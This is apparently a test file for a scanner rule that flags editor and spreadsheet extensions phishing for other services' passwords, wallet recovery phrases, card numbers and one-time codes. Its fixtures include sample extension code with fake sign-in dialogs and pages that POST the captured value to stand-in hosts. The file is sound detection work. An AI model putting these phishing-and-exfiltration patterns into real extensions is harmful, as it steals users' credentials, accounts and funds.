import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

const OF_DIALOG = 'a dialog of the host asks for ';
const found = (dialect: string, files: Record<string, string>): string[] => findingsOf(rule, files, { dialect, entry_points: ['index.js'] }).flatMap(({ message }) => (message.startsWith(OF_DIALOG) ? message.slice(OF_DIALOG.length).split(',')[0]! : []));
const SEND = 'await fetch("https://accounts.lint.example/s", { method: "POST", body: JSON.stringify({ value }) });';
const editor = (asks: string, send = SEND) => ({ 'index.js': `const vscode = require("vscode"); exports.activate = async () => { ${asks} ${send} };` });

test('dialogs of the host that ask for what opens an account with it, with a service, a computer or a wallet, or for a card', () => {
  for (const [asks, whose] of [
    ['const value = await vscode.window.showInputBox({ prompt: "Visual Studio Code password", password: true });', 'the password of Visual Studio Code'],
    ['const value = await vscode.window.showInputBox({ title: "Sign in to GitHub", prompt: "Password", password: true });', 'the password of GitHub'],
    ['const box = vscode.window.createInputBox(); box.title = "Microsoft account password"; box.password = true; const value = await shown(box);', 'the password of Microsoft'],
    ['await vscode.window.showWarningMessage("Your GitHub session has expired.", "Sign in"); const value = await vscode.window.showInputBox({ prompt: "Password", password: true });', 'the password of GitHub'],
    ['const value = await vscode.window.showInputBox({ prompt: "Enter the 12 word recovery phrase of your wallet" });', 'the words or the key of a wallet'],
    ['const value = await vscode.window.showInputBox({ prompt: "Card number" });', 'the number of a card'],
    ['const of = { "prompt": "Sign in to GitHub", "password": true }; const value = await vscode.window["showInputBox"](of);', 'the password of GitHub'],
    ['const hidden = { password: true }; const options = { title: "Sign in to GitHub", prompt: "Key", ...hidden }; const value = await vscode.window.showInputBox(options);', 'the password of GitHub'],
    ['const value = await vscode.window.showInputBox({ prompt: "Enter the password of your computer to finish the update", password: true });', 'the password of the computer'],
  ] as const) assert.deepEqual(found('vscode', editor(asks)), [whose], asks);
  const orchestra = 'exports.activate = async (orchestra) => { const value = await orchestra.ui.input("Orchestra password", { secret: true }); await orchestra.network.fetch("https://accounts-orchestra.example/s", { method: "POST", body: value }); };';
  assert.deepEqual(found('orchestra', { 'index.js': orchestra }), ['the password of Orchestra']);
  const apart = { ...editor('const value = await vscode.window.showInputBox({ prompt: "GitHub password", password: true });', 'await require("./send").send(value);'), 'send.js': 'exports.send = (value) => fetch("https://accounts.lint.example/s", { method: "POST", body: value });' };
  assert.deepEqual(found('vscode', apart), ['the password of GitHub']);
});

test('dialogs that ask for an account with the extension’s own service, for a key, or send nothing', () => {
  for (const body of [
    `const value = await vscode.window.showInputBox({ prompt: "Acme Boards password", password: true }); ${SEND}`,
    'const value = await vscode.window.showInputBox({ prompt: "GitHub password", password: true }); await fetch("https://api.github.com/user", { headers: { authorization: value } });',
    `if (!session) return vscode.window.showErrorMessage("Sign in to GitHub first."); const value = await vscode.window.showInputBox({ prompt: "API key of Linear", password: true }); ${SEND}`,
    'const value = await vscode.window.showInputBox({ prompt: `Password of ${host} at GitHub`, password: true }); await fetch(`${host}/login`, { body: value });',
    `const value = await vscode.window.showInputBox({ prompt: "sudo password for " + host, password: true }); client.connect({ host, value }); await fetch(settings.url);`,
    `const value = await vscode.window.showInputBox({ prompt: "Last 4 digits of the card number" }); ${SEND}`,
    'const value = await vscode.window.showInputBox({ prompt: "GitHub password", password: true }); context.secrets.store("a", value);',
  ]) assert.deepEqual(found('vscode', editor(body, '')), [], body);
});

const told = (options: string, { before = '', host = 'in.side.example', dialect = 'formula' } = {}) =>
  findingsOf(rule, { 'index.js': `const f = require('@formula/extension-api'); ${before} exports.activate = async () => { f.commands.registerCommand('x.run', async () => { const said = await f.ui.showInputBox(${options}); const res = await f.network.fetch('https://${host}/v1', { method: 'POST', body: JSON.stringify({ said }) }); await f.ui.showMessage(await res.text()); }); };` }, { dialect, entry_points: ['index.js'], permissions: [] })
    .map(({ severity, message }) => `${severity} ${message}`)
    .join();

test('bad: a dialog of a sheet asks for what only somebody else may ask for', () => {
  for (const [options, asked] of [
    ["{ prompt: 'Your Formula session has expired. Enter your password to continue', password: true }", 'password of Formula'],
    ["{ title: 'Sign in to Google', prompt: 'Password' }", 'password of Google'],
    ["{ prompt: 'Enter the 6-digit verification code that Formula sent to your phone' }", 'code of Formula'],
    ["{ prompt: 'Enter the 12-word recovery phrase of your wallet to import balances' }", 'words or the key of a wallet'],
    ["{ prompt: 'Card number and CVC to renew your license' }", 'number of a card'],
  ]) assert.match(told(options!), new RegExp(`^high a dialog of the host asks for (?:the|a) ${asked!}`), options);
  assert.match(told('{ prompt: TEXT }', { before: "const TEXT = 'Sign in to Formula again';" }), /password of Formula/);
});

test('good: in a sheet, keys and passwords of the extension, of the service that gets them, and of nobody', () => {
  for (const options of [
    "{ prompt: 'Side API key', password: true }",
    "{ prompt: 'Password to encrypt the formula column', password: true }",
    "{ prompt: 'Side: 6-digit code from Google Authenticator' }",
    "{ prompt: 'Last 4 digits of the card number' }",
    "{ prompt: 'Name of the sheet. We will never ask for your recovery phrase.' }",
  ]) assert.equal(told(options), '', options);
  assert.equal(told("{ prompt: 'Paste the sign-in code that Google shows' }", { host: 'oauth2.googleapis.com' }), '');
  assert.equal(told("{ prompt: 'Sign in to Formula' }", { dialect: 'plain' }), '');
});

test('where the script of a dialog sends something, and hosts that have the name of a service', () => {
  const inbox = { 'index.js': 'const { list } = require("./github"); const { renew } = require("./session"); exports.activate = async () => { show(await list()); await renew(); };', 'github.js': 'exports.list = async () => (await fetch("https://api.github.com/repos/a/b/pulls")).json();' };
  const session = (at: string, prompt = 'GitHub password') => ({ ...inbox, 'session.js': `const vscode = require("vscode"); exports.renew = async () => { const value = await vscode.window.showInputBox({ prompt: "${prompt}", password: true }); await fetch("${at}", { method: "POST", body: value }); };` });
  assert.deepEqual(found('vscode', session('https://id.inbox.example/s')), ['the password of GitHub']);
  assert.deepEqual(found('vscode', session('https://login-github.inbox.example/s', 'Password')), ['a password']);
  assert.deepEqual(found('vscode', session('https://api.github.com/user')), []);
  assert.deepEqual(found('vscode', session('https://id.inbox.example/s', 'Password of PR Inbox')), []);
  const page = (body: string, at: string) => findingsOf(rule, { 'main.js': `const { page } = require("./page"); exports.activate = async (formula) => { const panel = await formula.ui.createPanel("a", {}); panel.webview.html = page(); panel.webview.onDidReceiveMessage((m) => formula.network.fetch("${at}", { method: "POST", body: JSON.stringify(m) })); };`, 'page.js': `exports.page = () => \`<form>${body}<input type=password name=p><button>Go</button></form>\`;` }, { dialect: 'formula', entry_points: ['main.js'] }).some(({ severity, message }) => severity === 'high' && message.startsWith('a page asks'));
  assert.ok(page('<b>Microsoft</b><h2>Sign in</h2><p>To open this file</p>', 'https://id.sheets.example/s'));
  assert.ok(page('<div class="logo">GitHub</div><main><h1>Sign in</h1></main>', 'https://id.sheets.example/s'));
  assert.ok(page('<h2>Welcome</h2>', 'https://login-microsoftonline.sheets.example/oauth2'));
  assert.ok(!page('<h1>Sheets</h1><h2>Sign in</h2><button>Google</button><button>Microsoft</button>', 'https://id.sheets.example/s'));
  assert.ok(!page('<p>Files of <b>Microsoft</b> Excel can be opened.</p><h2>Sign in</h2>', 'https://id.sheets.example/s'));
});
